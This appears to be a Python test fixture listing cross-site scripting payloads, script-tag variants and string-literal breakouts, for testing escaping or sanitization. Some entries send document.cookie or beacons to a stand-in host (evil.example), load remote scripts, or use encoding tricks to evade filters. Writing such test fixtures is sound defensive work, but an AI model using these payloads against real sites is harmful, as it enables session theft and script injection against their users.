"""Scripts, and text that ends the string literal of a script."""

# ruff: noqa: E501 (strings stay whole)
from __future__ import annotations

from tests.hostile.markup import RUN

SCRIPTS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{RUN}</script>", "<script>alert(1)</script>", f"</script><script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>",
        f"<ScRiPt/x>{RUN}</sCrIpT >", f"<script\n>{RUN}</script\t>", "<script src=//evil.example/x.js></script>",
        f"<script src=data:text/javascript,{RUN}></script>", f"<script type=module>{RUN}</script>",
        '<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>', f"<script async defer>{RUN}//",
        f"<script>/*</script><script>*/{RUN}</script>", f"<script><!--<script>{RUN}//--></script>", f"<script nomodule>{RUN}</script>",
        "<script>fetch('//evil.example/?'+document.cookie)</script>", "<script>navigator.sendBeacon('//evil.example/b')</script>",
        "<script>new WebSocket('ws://evil.example')</script>", "<script>window.open('//evil.example')</script>",
        "<script>document.body.innerHTML=''</script>", "<script>while(true){}</script>", f"<script language=vbscript>{RUN}</script>",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"¼script¾{RUN}¼/script¾",
    ),
    "literal": (
        "');alert(1);//", '");alert(1);//', "`);alert(1);//", "\\`;alert(1);//", "\\');alert(1);//", "'+alert(1)+'", '"-alert(1)-"',
        "'};alert(1);{'", "*/alert(1)/*", "\nalert(1)//", "\u2028alert(1)//", "\\u2028alert(1)//", "</script><!--", "<!--<script>",
        "\\", "\\\\", "\\x", "\\u", "\\u{110000}", "\\0", "'", '"', "`", "'\"`", "x//", "/*", "*/", "]]}", "});", "0;alert(1)",
        "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "undefined", "null", "NaN", "true", "[object Object]",
        "constructor.constructor('alert(1)')()", "[].filter.constructor('alert(1)')()", "eval(atob('YWxlcnQoMSk='))",
        "setTimeout('alert(1)')", "import('//evil.example/x.js')", "location='//evil.example'", "Function`alert\\x281\\x29```",
        "throw onerror=alert,1", "with(document)alert(cookie)", "debugger", "$&$`$'$1$$", "$0 $<name>",
    ),
}  # fmt: skip
